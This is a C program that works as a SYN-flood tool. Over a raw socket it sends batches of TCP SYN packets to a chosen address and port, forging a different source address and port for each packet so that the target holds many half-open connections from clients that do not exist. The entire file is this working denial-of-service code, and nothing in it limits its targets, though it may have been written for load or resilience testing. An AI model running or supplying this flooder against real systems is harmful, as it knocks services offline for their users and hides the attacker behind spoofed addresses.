/* SPDX-License-Identifier: Apache-2.0 */
/*
 * First packets of TCP flows that nobody goes on with, each of a client of its own that is not there.
 *
 *   flood FLOWS SOURCE ADDRESS PORT     of SOURCE the last 16 bits count up, and when all were had the port; prints `sent FLOWS`
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

enum { AT_ONCE = 64, FIRST_PORT = 1024 };

struct packet {
	union {
		struct iphdr four;
		struct ip6_hdr six;
	} ip;
	struct tcphdr tcp;
};

/* A sum over it is the same for IPv4, whose addresses are followed by zeros. */
struct pseudo {
	uint8_t source[16];
	uint8_t target[16];
	uint32_t length;
	uint32_t protocol;
	struct tcphdr tcp;
};

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static uint16_t checksum(const void *data, size_t size)
{
	const uint16_t *words = data;
	uint32_t sum = 0;

	for (size_t i = 0; i < size / 2; i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Into bytes[]; returns how many. */
static size_t syn(uint8_t *bytes, int family, const struct pseudo *ends, long number)
{
	size_t length = family == AF_INET ? 4 : 16, header = family == AF_INET ? sizeof(struct iphdr) : sizeof(struct ip6_hdr);
	struct pseudo pseudo = *ends;
	uint16_t client = htons((uint16_t)number);

	memcpy(pseudo.source + length - 2, &client, sizeof(client));
	pseudo.tcp.source = htons((uint16_t)(FIRST_PORT + (number >> 16)));
	pseudo.tcp.seq = htonl((uint32_t)number);
	pseudo.tcp.check = checksum(&pseudo, sizeof(pseudo));
	if (family == AF_INET) {
		struct iphdr ip = { .version = 4, .ihl = 5, .tot_len = htons(sizeof(ip) + sizeof(pseudo.tcp)), .ttl = 64, .protocol = IPPROTO_TCP };

		memcpy(&ip.saddr, pseudo.source, length);
		memcpy(&ip.daddr, pseudo.target, length);
		memcpy(bytes, &ip, header);
	} else {
		struct ip6_hdr ip = { 0 };

		ip.ip6_flow = htonl(6U << 28);
		ip.ip6_plen = htons(sizeof(pseudo.tcp));
		ip.ip6_nxt = IPPROTO_TCP;
		ip.ip6_hlim = 64;
		memcpy(&ip.ip6_src, pseudo.source, length);
		memcpy(&ip.ip6_dst, pseudo.target, length);
		memcpy(bytes, &ip, header);
	}
	memcpy(bytes + header, &pseudo.tcp, sizeof(pseudo.tcp));
	return header + sizeof(pseudo.tcp);
}

int main(int argc, char **argv)
{
	static uint8_t bytes[AT_ONCE][sizeof(struct packet)];
	struct sockaddr_storage target = { 0 };
	struct mmsghdr messages[AT_ONCE] = { 0 };
	struct iovec pieces[AT_ONCE];
	struct pseudo ends = { .length = htonl(sizeof(struct tcphdr)), .protocol = htonl(IPPROTO_TCP) };
	long flows = argc == 5 ? atol(argv[1]) : 0, sent = 0;
	int family, fd;

	if (flows <= 0) {
		fputs("flood FLOWS SOURCE ADDRESS PORT\n", stderr);
		return 2;
	}
	family = strchr(argv[2], ':') ? AF_INET6 : AF_INET;
	if (inet_pton(family, argv[2], ends.source) != 1 || inet_pton(family, argv[3], ends.target) != 1)
		fail("an address");
	ends.tcp.dest = htons((uint16_t)atoi(argv[4]));
	ends.tcp.doff = sizeof(ends.tcp) / 4;
	ends.tcp.syn = 1;
	ends.tcp.window = htons(64240);
	target.ss_family = (sa_family_t)family;
	if (family == AF_INET)
		memcpy(&((struct sockaddr_in *)&target)->sin_addr, ends.target, 4);
	else
		memcpy(&((struct sockaddr_in6 *)&target)->sin6_addr, ends.target, 16);
	fd = socket(family, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		fail("socket");
	for (int i = 0; i < AT_ONCE; i++) {
		pieces[i].iov_base = bytes[i];
		messages[i].msg_hdr = (struct msghdr){ .msg_name = &target, .msg_namelen = sizeof(target), .msg_iov = &pieces[i], .msg_iovlen = 1 };
	}
	while (sent < flows) {
		int count = flows - sent < AT_ONCE ? (int)(flows - sent) : AT_ONCE, done;

		for (int i = 0; i < count; i++)
			pieces[i].iov_len = syn(bytes[i], family, &ends, sent + i);
		done = sendmmsg(fd, messages, (unsigned int)count, 0);
		if (done < 0 && errno != ENOBUFS)
			fail("sendmmsg");
		sent += done > 0 ? done : 0;
	}
	printf("sent %ld\n", sent);
	return 0;
}
